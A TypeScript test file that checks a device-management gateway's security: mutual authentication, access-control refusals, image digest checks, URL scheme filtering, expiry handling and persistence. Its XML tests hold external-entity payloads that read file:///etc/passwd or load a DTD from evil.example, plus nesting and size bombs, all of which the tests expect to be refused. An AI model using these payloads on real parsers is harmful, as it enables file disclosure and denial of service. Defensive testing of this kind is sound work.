// Security of the gateway, in memory: who it believes, whom it serves, what it takes as an image or a document, and what a restart and a clock may not break.
import { createHash } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { makeClient } from '../../core/device/client.ts'
import { DEVICE_PROFILES } from '../../core/device/profiles.ts'
import { parseAcl } from '../../core/dmtree/acl.ts'
import { generic } from '../../core/gateway/inventory.ts'
import { OUR_ROOTS, fanoutCommand, fanoutNodes, fanoutStart, imageData, imageDownload, imageExpiry, imageNodes } from '../../core/gateway/orders.ts'
import type { FanoutOrder } from '../../core/gateway/orders.ts'
import { readAggregation, registrationText } from '../../core/gateway/payloads.ts'
import { ALERTS } from '../../core/mo/gwmo.ts'
import type { Command } from '../../core/syncml/message.ts'
import { DIRECT, get, job, proxied } from './jobs.ts'
import { GW, World, ed } from './world.ts'
import type { Passed } from './world.ts'

const item = (kind: 'Add' | 'Replace', locUri: string, data: string, format = 'chr'): Command => ({
  kind,
  cmdId: '',
  items: [{ target: { locUri }, meta: { format }, data }],
})
const headerCodes = ({ message }: Passed): number[] =>
  message.commands.flatMap((each) => (each.kind === 'Status' && each.cmd === 'SyncHdr' ? [each.code] : []))
const ordered = ({ message }: Passed): boolean => message.commands.some(({ kind }) => kind !== 'Status' && kind !== 'Alert' && kind !== 'Results')
const alertTypes = (world: World): string[] => world.alerts.map(({ items }) => items[0]?.type ?? '')

/** Carries out commands in a session of the gateway; the codes they got. */
function codes(world: World, ...commands: readonly Command[]): number[] {
  const id = world.order(commands)
  world.report()
  return world.codes(id)
}

describe('gw 79: GS-04 client and server prove themselves to each other on both sides of the gateway', () => {
  /** Device `n`, which wants its gateway to prove itself. */
  const strict = (world: World, n: number): void => {
    const setup = { id: ed(n), serverUri: GW, user: 'lab', password: 'lab', serverId: 'gw1.example', serverPassword: 'lab' }
    const client = makeClient({ ...setup, auth: 'syncml:auth-md5', encoding: 'xml', profile: DEVICE_PROFILES.strict }, world.env)
    world.devices.set(ed(n), client)
  }

  test('gw 79: in every session both have shown credentials that were accepted before a command is performed', () => {
    const world = new World()
    for (const n of [1, 2]) {
      strict(world, n)
      expect(world.visit(n)).toBe('completed')
    }
    world.reports()
    world.order([...fanoutNodes(OUR_ROOTS, job('j', [1, 2])), fanoutStart(OUR_ROOTS, 'j', 'c')])
    expect(world.report()).toBe('completed')
    for (const n of [1, 2]) expect(world.visit(n)).toBe('completed')
    world.reports()
    expect(alertTypes(world).at(-1)).toBe(ALERTS.completion.type)
    const sessions = Map.groupBy(world.wire, ({ leg, message }) => `${leg} ${message.header.sessionId}`)
    const commanded = [...sessions.values()].filter((passed) => passed.some((each) => !each.up && ordered(each)))
    expect(new Set(commanded.map(([first]) => first?.leg))).toEqual(new Set(['S-G', `G-D ${ed(1)}`, `G-D ${ed(2)}`]))
    for (const passed of commanded) {
      const shown = (up: boolean): number => passed.findIndex((each) => each.up === up && each.message.header.cred !== undefined)
      const accepted = (up: boolean): number => passed.findIndex((each, at) => each.up === up && at > shown(!up) && headerCodes(each).includes(212))
      const done = passed.findIndex(
        ({ up, message }) => up && message.commands.some((each) => each.kind === 'Status' && each.cmd !== 'SyncHdr' && each.code < 300),
      )
      expect([shown(true) >= 0, shown(false) >= 0, done > shown(false), done > shown(true)]).toEqual([true, true, true, true])
      expect([accepted(true) > shown(false), accepted(false) > shown(true)], 'told so').toEqual([true, true])
    }
  })

  test('gw 79: a device with a wrong password is told 401, and gets no command and no fresh record', () => {
    const world = proxied()
    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1])), fanoutStart(OUR_ROOTS, 'j', 'c'))
    const before = world.gateway.devices.recordOf(ed(1))?.lastSeen
    const setup = { id: ed(1), serverUri: GW, user: 'lab', serverId: 'gw1.example', serverPassword: 'lab', auth: 'syncml:auth-md5' as const }
    world.devices.set(ed(1), makeClient({ ...setup, password: 'guessed', encoding: 'xml' }, world.env))
    world.wire.length = 0
    world.now += 1000
    expect(world.visit(1)).toBe('failed')
    expect(world.wire.filter(({ up }) => !up).flatMap(headerCodes)).toContain(401)
    expect(world.wire.filter((each) => !each.up && ordered(each))).toEqual([])
    expect(world.gateway.fanouts.job('j')?.responses[0]?.state).toBeLessThan(40)
    expect(world.gateway.devices.recordOf(ed(1))?.lastSeen).toBe(before)
  })

  test('gw 79: a device does nothing for a gateway that cannot prove itself', () => {
    const world = new World()
    strict(world, 1)
    world.visit(1)
    const command = fanoutCommand([{ kind: 'Replace', locUri: './Vendor/DMLab/Settings/Text', data: 'of an impostor' }])
    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1], { command })), fanoutStart(OUR_ROOTS, 'j', 'c'))
    world.south.ledger.accounts.forEach((account, at, all) => (all[at] = { ...account, serverPassword: 'guessed' }))
    expect(world.visit(1)).not.toBe('completed')
    expect(world.device(1).device.tree.find(['Vendor', 'DMLab', 'Settings', 'Text'])?.value).not.toBe('of an impostor')
  })

  test('gw 79: the gateway does nothing for a server that cannot prove itself, and its server nothing for a gateway that cannot', () => {
    const impostor = proxied()
    impostor.dms.ledger.accounts.forEach((account, at, all) => (all[at] = { ...account, serverPassword: 'guessed' }))
    impostor.order([...fanoutNodes(OUR_ROOTS, job('j', [1])), fanoutStart(OUR_ROOTS, 'j', 'c')])
    expect(impostor.report()).not.toBe('completed')
    expect(impostor.gateway.fanouts.job('j')).toBeUndefined()
    expect(impostor.notified).toEqual([])

    const stranger = proxied()
    stranger.dms.ledger.accounts.forEach((account, at, all) => (all[at] = { ...account, password: 'moved' }))
    stranger.order([get('./GwMO/Config/GatewayID')])
    expect(stranger.report()).toBe('failed')
    expect(stranger.wire.filter(({ leg, up }) => leg === 'S-G' && !up).flatMap(headerCodes)).toContain(401)
    expect(stranger.wire.filter((each) => each.leg === 'S-G' && !each.up && ordered(each))).toEqual([])
  })
})

test('gw 89: GS-14 a device whose record the server may not read gets 425 in a fan-out, however it is named, and is not called', () => {
  const world = proxied(3)
  const tree = world.north.device.tree
  const record = tree.find(['GwMO', 'Devices', 'Inventory', 'Records', 'ed2'])
  if (record === null) return expect.unreachable()
  tree.setAcl(record, parseAcl('Get=other.example'))
  expect(codes(world, get('./GwMO/Devices/Inventory/Records/ed2/DeviceID'))).toEqual([425])
  const ways: readonly Partial<FanoutOrder>[] = [{ devices: [ed(1), ed(2)] }, { devices: [ed(1)], all: true }, { devices: [], mode: 1 }]
  ways.forEach((way, i) => {
    const name = `j${String(i)}`
    world.notified.length = 0
    expect(codes(world, ...fanoutNodes(OUR_ROOTS, job(name, [1], way)), fanoutStart(OUR_ROOTS, name, 'c'))).toEqual([200, 202])
    expect(world.notified).not.toContain('ed2')
    expect(world.notified).toContain('ed1')
    world.wire.length = 0
    for (const n of [1, 2, 3]) world.visit(n)
    expect(world.wire.filter((each) => each.leg === `G-D ${ed(2)}` && !each.up && ordered(each))).toEqual([])
    world.reports()
    const report = world.alerts.filter(({ items }) => items[0]?.type === ALERTS.aggregation.type).at(-1)
    const told = new Map(readAggregation(report?.items[0]?.data).devices.map(({ deviceId, code }) => [deviceId, code]))
    expect([told.get(ed(1)), told.get(ed(2))]).toEqual([200, 425])
  })
})

describe('images', () => {
  const bytes = Uint8Array.from({ length: 50_000 }, (_, i) => (i * 13) & 0xff)
  const sha256 = createHash('sha256').update(bytes).digest('hex')
  const node = (name: string, more: { readonly sha256?: string; readonly expiry?: number; readonly pkgUrl?: string } = {}): Command =>
    imageNodes(OUR_ROOTS, { name, imageId: name, expiry: 600, sha256: '', ...more })

  test.each(['by the server', 'by a download'])('gw 90: GS-15 an image that is not what its Digest says is never ready: %s', (way) => {
    const world = proxied(1)
    const arrive = (name: string, digest: string): void => {
      if (way === 'by the server') return void codes(world, node(name, { sha256: digest }), imageData(OUR_ROOTS, name, bytes))
      codes(world, node(name, { sha256: digest, pkgUrl: 'http://ads/p.bin' }), imageDownload(OUR_ROOTS, name, ''))
      world.gateway.images.fetched(name, { ...world.store.put(name, bytes), contentType: 'application/octet-stream' })
      world.settle()
    }
    arrive('BAD', '0'.repeat(64))
    expect(world.gateway.images.get('BAD')).toMatchObject({ state: 40, reason: expect.stringContaining(sha256) })
    expect(world.gateway.images.serve('BAD')).toEqual({ status: 404 })
    expect(world.store.used(), 'nothing is kept of it').toBe(0)
    world.reports()
    expect(world.alerts).toEqual([])
    expect(codes(world, get('./GwMO/Images/Images/BAD/ImageURL'))).toEqual([404])
    expect(codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1], { imageRef: 'BAD' })), fanoutStart(OUR_ROOTS, 'j', ''))).toEqual([200, 412])
    arrive('GOOD', sha256)
    expect(world.gateway.images.get('GOOD')).toMatchObject({ state: 30, digest: `sha-256:${sha256}` })
    world.reports()
    expect(alertTypes(world)).toEqual([ALERTS.imageReady.type])
  })

  test.each([
    'file:///etc/passwd',
    'ftp://ads/p.bin',
    'data:,x',
    'gopher://ads/p',
    'javascript:0',
    '/etc/passwd',
    '//ads/p.bin',
    ' http://ads/p.bin',
    'httpx://ads/p',
  ])('gw 93: GS-18 the gateway does not fetch %s: 406', (pkgUrl) => {
    const world = proxied(1)
    expect(codes(world, node('P', { pkgUrl }), imageDownload(OUR_ROOTS, 'P', ''))).toEqual([200, 406])
    expect(world.fetches).toEqual([])
    expect(world.gateway.images.get('P')?.state).toBe(10)
  })

  test('gw 93: GS-18 http and https are fetched, and only for a server that has the right', () => {
    const world = proxied(1)
    for (const [name, pkgUrl] of [
      ['A', 'http://ads/a.bin'],
      ['B', 'HTTPS://ads/b.bin'],
    ] as const) {
      expect(codes(world, node(name, { pkgUrl }), imageDownload(OUR_ROOTS, name, ''))).toEqual([200, 202])
    }
    expect(world.fetches.map(({ url }) => url)).toEqual(['http://ads/a.bin', 'HTTPS://ads/b.bin'])
    codes(world, node('C', { pkgUrl: 'http://ads/c.bin' }))
    const { tree } = world.north.device
    const image = tree.find(['GwMO', 'Images', 'Images', 'C'])
    if (image === null) return expect.unreachable()
    tree.setAcl(image, parseAcl('Get=dms.example&Exec=other.example'))
    expect(codes(world, imageDownload(OUR_ROOTS, 'C', ''))).toEqual([425])
    expect(world.fetches).toHaveLength(2)
  })

  test('gw 121: a Replace by the server that is under way at Expiry zero ends well, and the image is void at once', () => {
    const world = proxied(1)
    expect(codes(world, node('LATE'))).toEqual([200])
    let chunks = 0
    world.meanwhile = ({ leg, up, message }) => {
      const more = leg === 'S-G' && up && message.commands.some((each) => each.kind === 'Status' && each.code === 213)
      if (more && ++chunks === 1) world.pass(601_000)
    }
    expect(codes(world, imageData(OUR_ROOTS, 'LATE', bytes))).toEqual([200])
    expect(chunks).toBeGreaterThan(0)
    expect(world.gateway.images.get('LATE')?.state).toBe(50)
    world.reports()
    expect(world.alerts, 'no alert that it is ready').toEqual([])
    expect(codes(world, get('./GwMO/Images/Images/LATE/ImageURL'))).toEqual([404])
  })

  test('gw 121: a Replace to a device that is under way at zero ends well, the device not begun gets 410, and later use is refused and told', () => {
    const world = proxied(2)
    codes(world, node('PKG1'), imageData(OUR_ROOTS, 'PKG1', bytes))
    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1, 2], { imageRef: 'PKG1', command: DIRECT, timeout: 3600 })), fanoutStart(OUR_ROOTS, 'j', 'c'))
    let chunks = 0
    world.meanwhile = ({ leg, up, message }) => {
      const more = leg.startsWith('G-D') && up && message.commands.some((each) => each.kind === 'Status' && each.code === 213)
      if (more && ++chunks === 1) world.pass(601_000)
    }
    expect(world.visit(1)).toBe('completed')
    expect(chunks).toBeGreaterThan(1)
    expect(world.device(1).device.tree.find(['Vendor', 'DMLab', 'Scratch', 'PKG1', 'Data'])?.value).toEqual(bytes)
    expect(world.gateway.images.serve('PKG1')).toEqual({ status: 410 })
    world.visit(2)
    expect(world.gateway.fanouts.job('j')?.responses.map(({ code }) => code)).toEqual([200, 410])
    world.told.length = 0
    expect(codes(world, imageExpiry(OUR_ROOTS, 'PKG1', 60), imageData(OUR_ROOTS, 'PKG1', bytes.subarray(0, 10)))).toEqual([403, 403])
    expect(codes(world, item('Add', './GwMO/Images/Images/PKG1/PkgURL', 'http://ads/p.bin'))).toEqual([403])
    expect(codes(world, get('./GwMO/Images/Images/PKG1/Expiry'))).toEqual([200])
    expect(world.told.filter((each) => each.includes('dms.example') && each.includes('PKG1 has expired'))).toHaveLength(3)
  })
})

describe('gw 92: GS-17 documents are read without entities and with bounds', () => {
  const ENTITY = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
  const deep = (depth: number): string => `${'<Sequence><CmdID>1</CmdID>'.repeat(depth)}${'</Sequence>'.repeat(depth)}`
  const GET = '<Get><CmdID>1</CmdID><Item><Target><LocURI>./DevDetail/FwV</LocURI></Target></Item></Get>'

  test.each([
    ['an external entity', `${ENTITY}<FanoutCommand>${GET}</FanoutCommand>`],
    ['an entity nobody declared', `<FanoutCommand>${GET.replace('./DevDetail/FwV', '&secret;')}</FanoutCommand>`],
    [
      'an external subset with a parameter entity',
      `<!DOCTYPE FanoutCommand [<!ENTITY % all SYSTEM "http://evil.example/x.dtd"> %all;]><FanoutCommand>${GET}</FanoutCommand>`,
    ],
    ['a thousand levels', `<FanoutCommand>${deep(1000)}</FanoutCommand>`],
    ['a hundred thousand elements', `<FanoutCommand>${GET.repeat(20_000)}</FanoutCommand>`],
  ])('gw 92: a command list with %s is 415, and the job does not start', (_, command) => {
    const world = proxied(1)
    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1])))
    expect(codes(world, item('Replace', './GwMO/Fanout/Fanout/j/Command', command, 'xml'))).toEqual([415])
  })

  test('gw 92: the same command list without it is taken', () => {
    const world = proxied(1)
    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1])))
    expect(codes(world, item('Replace', './GwMO/Fanout/Fanout/j/Command', `<FanoutCommand>${GET}</FanoutCommand>`, 'xml'))).toEqual([200])
  })

  test.each([
    ['an external entity', (text: string) => `${ENTITY}${text}`],
    ['an entity in place of its address', (text: string) => `${ENTITY}${text.replace('192.0.2.23', '&secret;')}`],
    ['a thousand levels', (text: string) => text.replace('192.0.2.23', `${'<a>'.repeat(1000)}${'</a>'.repeat(1000)}`)],
  ])('gw 92: a registration alert with %s is 412, and registers nobody', (_, spoil) => {
    const world = new World({ mode: 0 })
    const text = registrationText({ deviceId: ed(3), device: { type: 'IPv4', address: '192.0.2.23' }, servers: ['dms.example'] })
    const register = (data: string): void => void world.visit(3, { alerts: [generic(ALERTS.registration.type, 'xml', '', data, 'informational')] })
    register(spoil(text))
    const answers = world.wire
      .filter(({ up }) => !up)
      .flatMap(({ message }) => message.commands.flatMap((each) => (each.kind === 'Status' && each.cmd === 'Alert' ? [each.code] : [])))
    expect(answers).toContain(412)
    expect(world.gateway.devices.records()).toEqual([])
    register(text)
    expect(world.gateway.devices.records()).toMatchObject([{ deviceId: ed(3), state: 30 }])
  })
})

describe('gw 95: GS-20 what must last', () => {
  test('gw 95: records, images and results of jobs are there after a restart, as they were', () => {
    const world = proxied(2)
    const bytes = new Uint8Array(1000).fill(7)
    codes(world, imageNodes(OUR_ROOTS, { name: 'PKG1', imageId: 'PKG1', expiry: 600, sha256: '' }), imageData(OUR_ROOTS, 'PKG1', bytes))
    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1, 2])), fanoutStart(OUR_ROOTS, 'j', 'c'))
    for (const n of [1, 2]) world.visit(n)
    world.reports()
    const uris = ['Devices/Inventory/Records/ed1/Mode', 'Devices/Inventory/Records/ed2/DeviceID', 'Fanout/Fanout/j/State', 'Fanout/Fanout/j/Result']
    const all = [
      ...uris,
      'Fanout/Fanout/j/Responses/ed1/Data',
      'Fanout/Fanout/j/Responses/ed2/Data',
      'Images/Images/PKG1/Size',
      'Images/Images/PKG1/ImageURL',
    ]
    const read = (): string[] => {
      const id = world.order(all.map((uri) => get(`./GwMO/${uri}`)))
      world.report()
      return world.data(id)
    }
    const before = read()
    expect(before.slice(0, 4)).toEqual(['1', ed(2), '40', '200'])
    expect(before[4]).toContain('1.0.7')
    world.restart()
    expect(read()).toEqual(before)
    expect(world.gateway.devices.records().map(({ deviceId, state }) => [deviceId, state])).toEqual([
      [ed(1), 30],
      [ed(2), 30],
    ])
    world.notified.length = 0
    world.reports()
    expect(world.notified, 'nothing is done again').toEqual([])
  })

  test("gw 95: no secret can be read: neither the gateway's by its server, nor a device's by the gateway", () => {
    const world = proxied(1)
    const { tree } = world.north.device
    const [account] = [...(tree.find(['DMAcc'])?.children?.keys() ?? [])]
    const auth = `./DMAcc/${account ?? ''}/AppAuth/1`
    expect(codes(world, get(`${auth}/AAuthName`), get(`${auth}/AAuthSecret`), get(`${auth}/AAuthData`))).toEqual([200, 405, 405])
    const [own] = [...(world.device(1).device.tree.find(['DMAcc'])?.children?.keys() ?? [])]
    const command = fanoutCommand([{ kind: 'Get', locUri: `./DMAcc/${own ?? ''}/AppAuth/1/AAuthSecret` }])
    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', [1], { command })), fanoutStart(OUR_ROOTS, 'j', 'c'))
    world.visit(1)
    expect(world.gateway.fanouts.job('j')?.responses[0]?.code).toBe(405)
  })
})
